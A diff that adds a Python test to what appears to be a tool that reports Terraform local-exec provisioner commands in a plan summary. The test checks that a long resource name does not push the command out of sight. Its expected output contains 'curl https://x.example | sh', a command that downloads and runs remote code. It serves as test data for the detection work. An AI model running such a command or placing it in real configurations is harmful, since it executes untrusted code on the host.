@@ -135,6 +135,13 @@ def test_a_long_command_says_how_much_of_it_is_not_shown_and_padding_hides_nothi
     assert said == f"local-exec provisioner of a.b runs: true ; {'x' * 113}… (87 characters more)"
 
 
+def test_a_long_name_does_not_push_the_command_out_of_sight() -> None:
+    base = f"null_resource.{'x' * 900}"
+    (said,) = code(module(resource(base, "managed", CURL)), {base: ("create",)})
+    assert said.endswith("xxx runs: curl https://x.example | sh")
+    assert len(said) < 200
+
+
 def test_a_secret_is_masked_before_the_command_is_cut() -> None:
     root = module(resource("a.b", "managed", provisioner("local-exec", command="x" * 110 + " hunter2hunter2")))
     (said,) = code_of_plan(planned(root, {"a.b": ("create",)}), {AWS}, lambda t: t.replace("hunter2hunter2", "***"))
